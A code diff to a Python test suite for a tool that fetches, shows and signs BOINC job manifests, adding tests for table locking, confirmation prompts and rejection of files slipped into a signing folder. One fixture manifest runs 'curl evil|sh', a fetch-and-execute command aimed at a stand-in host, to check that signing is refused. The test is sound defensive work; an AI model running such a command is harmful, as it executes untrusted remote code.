@@ -5,6 +5,7 @@ from __future__ import annotations
 import hashlib
 import json
 from collections.abc import Iterator
+from concurrent.futures import ThreadPoolExecutor
 from dataclasses import asdict, dataclass, replace
 from pathlib import Path
 from typing import Any
@@ -14,6 +15,7 @@ from click.testing import CliRunner, Result
 from cryptography.hazmat.primitives.asymmetric.rsa import RSAPrivateKey, RSAPublicNumbers
 from psycopg.types.json import Jsonb
 from tests.boinc_captures import NAMES
+from tests.boinc_slot import until
 from tests.factories import make_bot, make_key, make_lease, make_owner, submission
 from tests.http.boinc_site import SECOND, Site, hostid, opened
 from tests.http.conftest import Person
@@ -51,7 +53,8 @@ def site(settings: Settings, conn: db.Connection) -> Iterator[Site]:
 def ann(site: Site) -> Person:
     owner = make_owner(site.conn, "ann")
     person = Person(site.app, make_key(site.conn, owner, "user"), owner, "ann")
-    assert person("PUT", f"/api/v1/blobs/{DATA.sha256}?offset=0&size=4", data=b"data").status_code
+    stored = person("PUT", f"/api/v1/blobs/{DATA.sha256}?offset=0&size=4", data=b"data")
+    assert stored.status_code == 200
     return person
 
 
@@ -224,6 +227,32 @@ def test_one_job_that_stock_clients_cannot_run_keeps_the_bot_from_them(
     assert answer.status_code == 409
     assert why in answer.json["detail"]
     assert state(site) == before
+
+
+def test_jobs_are_looked_at_for_a_signature_only_and_once(site: Site, ann: Person) -> None:
+    bots = [make_bot(site.conn, ann.id, manifest=MANIFEST.text()) for _ in range(2)]
+    fresh, offered = (f"/api/v1/bots/{bot}/boinc" for bot in bots)
+    assert ann("PUT", offered, json=signed_by(OLD)).status_code == 200
+    with site.conn.transaction():
+        site.conn.execute("LOCK TABLE job")  # whoever looked would not come back
+        assert ann("PUT", fresh, json={"script": "x", "signatures": {}}).status_code == 400
+        assert ann("PUT", fresh, json=signed_by(NEW)).status_code == 400
+        assert ann("PUT", offered, json=signed_by(OLD)).status_code == 200
+
+
+def test_the_jobs_of_one_bot_are_looked_at_at_a_time(site: Site, ann: Person) -> None:
+    bots = [make_bot(site.conn, ann.id, manifest=MANIFEST.text()) for _ in range(2)]
+    first, second = (f"/api/v1/bots/{bot}/boinc" for bot in bots)
+    waiting = "SELECT count(*) FROM pg_locks WHERE NOT granted AND relation = 'job'::regclass"
+    with ThreadPoolExecutor(1) as others:
+        with site.conn.transaction():
+            site.conn.execute("LOCK TABLE job")
+            slow = others.submit(ann, "PUT", first, json=signed_by(OLD))
+            until(lambda: site.rows(waiting) == [(1,)])
+            refused = ann("PUT", second, json=signed_by(OLD))
+            assert (refused.status_code, refused.json["retry"]) == (503, True)
+        assert slow.result().status_code == 200
+    assert ann("PUT", second, json=signed_by(OLD)).status_code == 200
 
 
 def test_a_bot_is_signed_when_its_jobs_are_all_there(site: Site, ann: Person) -> None:
@@ -417,8 +446,10 @@ def test_a_bot_goes_to_the_keys_and_back_in_a_folder(
     folder, away = tmp_path / "parcel", replace(desk, url="http://127.0.0.1:1")
     native = ("--project-key", site.settings.data / "elsewhere")
     desk("app", "fetch", bot, "--to", folder)
-    signing_it = away("app", "sign", folder, *native, "--boinc-key", vault / "old.key")
-    assert f"input   {DATA.sha256}  data" in signing_it.stderr
+    sign = ("app", "sign", folder, *native, "--boinc-key", vault / "old.key")
+    signing_it = away(*sign, answer="y\n")
+    for shown in (f"BOT {bot} of ann", "command wc '{i}' data", f"input   {DATA.sha256}  data"):
+        assert shown in signing_it.stderr
     assert not is_signed(site, bot)
     assert f"bot {bot}: signed\n" in desk("app", "send", folder).stdout
     shown = ann("GET", f"/api/v1/bots/{bot}").json
@@ -450,6 +481,48 @@ def test_nothing_is_signed_before_whoever_signs_has_seen_it(
     assert is_signed(site, bot)
 
 
+def test_each_bot_of_a_folder_is_asked_for_and_nobody_signs_by_saying_nothing(
+    site: Site, ann: Person, desk: Desk, vault: Path, tmp_path: Path
+) -> None:
+    bots = [make_bot(site.conn, ann.id, manifest=MANIFEST.text()) for _ in range(2)]
+    folder = tmp_path / "parcel"
+    desk("app", "fetch", *bots, "--to", folder)
+    sign = ("app", "sign", folder, "--boinc-key", vault / "old.key")
+    said = desk(*sign, code=1).stderr
+    assert f"BOT {bots[0]} is not signed: answer at a terminal, or look at it and add --yes" in said
+    assert list(folder.glob("*.signed.json")) == []
+    assert f"bot {bots[0]}: not signed, as you said" in desk(*sign, code=1, answer="n\ny\n").stderr
+    desk("app", "send", folder)
+    assert [is_signed(site, bot) for bot in bots] == [False, True]
+
+
+def test_a_program_and_what_fills_the_command_are_shown(
+    site: Site, ann: Person, desk: Desk, vault: Path
+) -> None:
+    program = replace(DATA, executable=True)
+    manifest = Manifest("ann", ("./data", "{i}"), {"i": "text"}, inputs=(program,))
+    bot = make_bot(site.conn, ann.id, manifest=manifest.text())
+    shown = desk("app", "sign", bot, "--yes", "--boinc-key", vault / "old.key").stderr
+    assert shown.splitlines() == [
+        f"BOT {bot} of ann",
+        "command ./data '{i}'",
+        "filled  {i} with any text of each job",
+        f"input   {DATA.sha256}  data  (a program)",
+    ]
+
+
+def test_a_bot_that_was_slipped_into_the_folder_is_named_and_nothing_is_signed(
+    site: Site, ann: Person, desk: Desk, vault: Path, tmp_path: Path
+) -> None:
+    bot, folder = make_bot(site.conn, ann.id, manifest=MANIFEST.text()), tmp_path / "parcel"
+    desk("app", "fetch", bot, "--to", folder)
+    evil = Manifest("ada", ("sh", "-c", "curl evil|sh"))
+    write(folder / "bot-99.json", json.dumps({"manifest": evil.text()}))
+    said = desk("app", "sign", folder, "--yes", "--boinc-key", vault / "old.key", code=1).stderr
+    assert "not fetched with it: bot-99.json" in said
+    assert list(folder.glob("*.signed.json")) == []
+
+
 def test_the_command_changes_keys_and_signs_what_is_unfinished(
     site: Site, ann: Person, desk: Desk, vault: Path
 ) -> None:
@@ -474,7 +547,7 @@ def test_a_change_of_keys_is_signed_off_the_network(
     desk("app", "fetch", bot, "--to", folder)
     options = ("--boinc-key", vault / "old.key", "--new-key", vault / "new.pub")
     away("app", "rotate", *options, "--to", folder)
-    away("app", "sign", folder, "--boinc-key", vault / "new.key")
+    away("app", "sign", folder, "--yes", "--boinc-key", vault / "new.key")
     told = desk("app", "send", folder).stdout
     assert told == f"BOINC clients are led to the new key\nbot {bot}: signed\n"
     assert key_in(site.ask()) == keys.public_text(NEW.public_key())
@@ -491,7 +564,7 @@ def test_a_bot_that_cannot_be_signed_does_not_hold_up_the_others(
     ]
     folder = tmp_path / "parcel"
     desk("app", "fetch", *bots, "--to", folder)
-    told = desk("app", "sign", folder, "--boinc-key", vault / "old.key", code=1).stderr
+    told = desk("app", "sign", folder, "--yes", "--boinc-key", vault / "old.key", code=1).stderr
     assert f"bot {bots[0]}: not for BOINC clients: no stock client is served on" in told
     assert "1 of 2 BOTs are not signed" in told
     desk("app", "send", folder)
